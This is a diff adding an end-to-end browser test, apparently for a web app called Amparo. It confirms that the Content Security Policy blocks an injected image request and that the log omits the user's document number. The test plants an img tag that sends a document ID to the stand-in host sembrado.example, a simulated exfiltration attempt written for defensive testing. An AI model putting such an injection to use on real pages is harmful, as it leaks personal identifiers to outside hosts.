@@ -89,3 +89,19 @@ test('un marcado sembrado con los nombres de los scripts no los confunde: la pá
   // React tells that the markup is not what it made; nothing else may go wrong.
   expect(complaints.filter((complaint) => !/hydrat|Minified React error #418/i.test(complaint))).toEqual([])
 })
+
+test('lo que la política no deja pasar queda en el registro, sin nada de la persona', async ({ page }) => {
+  const logged = () =>
+    readFileSync(join(process.env.AMPARO_E2E_DATA ?? '', 'amparo.log'), 'utf8')
+      .split('\n')
+      .filter((line) => line.includes('csp_report') && line.includes('sembrado.example'))
+  await page.goto('/inicia?documento=10000001')
+  await page.evaluate(() => {
+    const picture = document.createElement('img')
+    picture.src = 'https://sembrado.example/x.png?documento=10000001'
+    document.body.append(picture)
+  })
+  await expect.poll(logged).not.toEqual([])
+  expect(logged()[0]).toContain('"directive":"img-src","blocked":"https://sembrado.example","page":"/inicia"')
+  expect(logged().join()).not.toContain('10000001')
+})
